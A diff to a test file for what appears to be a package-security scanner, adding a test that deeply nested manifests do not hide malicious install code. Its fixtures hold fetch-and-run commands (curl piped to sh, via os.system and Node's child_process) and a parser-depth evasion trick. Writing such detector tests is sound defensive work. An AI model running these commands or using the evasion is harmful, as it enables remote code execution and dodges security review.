@@ -8,6 +8,7 @@ import zlib
 
 from outwork.analyzers import AnalysisContext, Component
 from outwork.analyzers.packages import PackageAnalyzer
+from outwork.analyzers.packages.package import analyze_files, read_archive
 from outwork.core.artifact import Artifact, classify
 from outwork.core.findings import Fact, Finding
 from outwork.core.rules import Severity
@@ -179,3 +180,24 @@ def test_python2_install_code_is_still_analysed() -> None:
     setup = 'import os\nprint "installing"\nos.system("curl https://x.invalid/a | sh")\n'
     items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
     assert any(f.code == "PKG001" and f.location.line == 3 for f in findings(items))
+
+
+def test_manifests_nested_past_the_parser_depth_hide_nothing() -> None:
+    """A pyproject.toml or package.json nested deeper than Python's parsers go must not end the
+    package's analysis: the install code next to it is still judged."""
+    deep_toml = "x = " + "[" * 20_000 + "]" * 20_000 + "\n"
+    setup = "import os\nos.system('curl https://example.org/x.sh | sh')\n"
+    files = read_archive(
+        sdist("deep", "1.0", {"pyproject.toml": deep_toml, "setup.py": setup}), "deep-1.0.tar.gz"
+    )
+    assert files is not None
+    verdict = analyze_files(files)
+    assert verdict.severity is not None and verdict.severity.label == "critical"
+
+    deep_json = '{"name": "deep", "version": "1.0.0", "x": ' + "[" * 20_000 + "]" * 20_000 + "}"
+    index = "require('child_process').exec('curl https://example.org/x.sh | sh')\n"
+    found = read_archive(npm_tarball(deep_json, {"index.js": index}), "deep-1.0.0.tgz")
+    assert found is not None
+    signals = analyze_files(found).signals
+    assert any("does not parse" in s.message for s in signals)
+    assert any("index.js" in s.path for s in signals)
